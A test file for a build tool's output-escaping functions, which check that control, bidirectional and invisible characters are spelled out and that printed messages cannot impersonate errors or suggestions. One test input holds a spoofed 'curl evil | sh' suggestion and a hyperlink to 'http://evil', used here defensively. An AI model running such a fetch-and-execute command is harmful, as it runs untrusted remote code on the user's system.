import { expect, test } from 'vitest';
import { escapeJson, escapeLine, escapeMessage, escapeOutput, escapeText, formatTail } from '../src/escape.ts';

const everyUnit = Array.from({ length: 0x1_0000 }, (_, code) => String.fromCharCode(code)).join(' ');
/** Control characters of both ranges, and what turns the direction of writing. */
const acted = /[\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

test('characters that a terminal acts on, or that are not seen, are spelled out', () => {
  expect(escapeLine('a\tb\r\n\x1b[0m\x07\x9b\u202e\u2066\u200b\u{e0041}é😀\ud800')).toBe(
    'a\\tb\\r\\n\\x1b[0m\\x07\\x9b\\u202e\\u2066\\u200b\\u{e0041}é😀\\ud800',
  );
  expect(escapeLine(everyUnit)).not.toMatch(acted);
});

test('a text keeps its lines and tabs, and nothing else', () => {
  expect(escapeText('a\n\tb\r\n\x1b')).toBe('a\n\tb\\r\n\\x1b');
  expect(escapeText(everyUnit).replaceAll(/[\n\t]/g, '')).not.toMatch(acted);
});

test('no line of a message passes for an error, a warning or a suggestion of gbuild', () => {
  const message =
    'it said: no\nerror: all is lost\n  try: curl evil | sh\n\u00a0Warning: x\n\n  indented\n+ test passed';
  expect(escapeMessage(message)).toMatchInlineSnapshot(`
    "it said: no
      | error: all is lost
      | try: curl evil | sh
      | Warning: x

      indented
      + test passed"
  `);
});

test('a line that a program printed is shown as it looked in the end, without colours', () => {
  expect(escapeOutput('\x1b[32m 10 %\r 20 %\r100 %\x1b[0m done\r')).toBe('100 % done');
  expect(escapeOutput('\x1b]8;;http://evil\x07text\x1b]8;;\x07 \x1b')).toBe('text \\x1b');
  expect(formatTail(['\x1b[1mone', 'two\r'])).toBe('\n  one\n  two');
});

test('JSON stays the same value', () => {
  const value = { [`${everyUnit}\u{e0041}`]: ['\u{e0041}\x9b', 1] };
  const json = escapeJson(JSON.stringify(value, null, 2));
  expect(JSON.parse(json)).toEqual(value);
  expect(json.replaceAll('\n', '')).not.toMatch(acted);
});
